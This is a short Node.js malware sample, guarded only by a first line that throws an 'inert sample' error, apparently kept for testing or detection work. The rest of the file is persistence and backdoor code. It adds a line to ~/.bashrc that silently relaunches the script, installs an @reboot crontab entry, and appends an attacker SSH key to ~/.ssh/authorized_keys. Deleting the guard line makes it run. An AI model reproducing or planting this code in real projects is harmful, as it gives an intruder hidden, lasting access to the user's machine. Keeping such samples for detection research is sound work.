throw new Error("inert sample: never run");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { execSync } = require("child_process");

fs.appendFileSync(path.join(os.homedir(), ".bashrc"), `\nnode ${__filename} >/dev/null 2>&1 &\n`);
execSync(`(crontab -l; echo "@reboot node ${__filename}") | crontab -`);
fs.appendFileSync(path.join(os.homedir(), ".ssh", "authorized_keys"), "ssh-ed25519 AAAAplaceholder support\n");
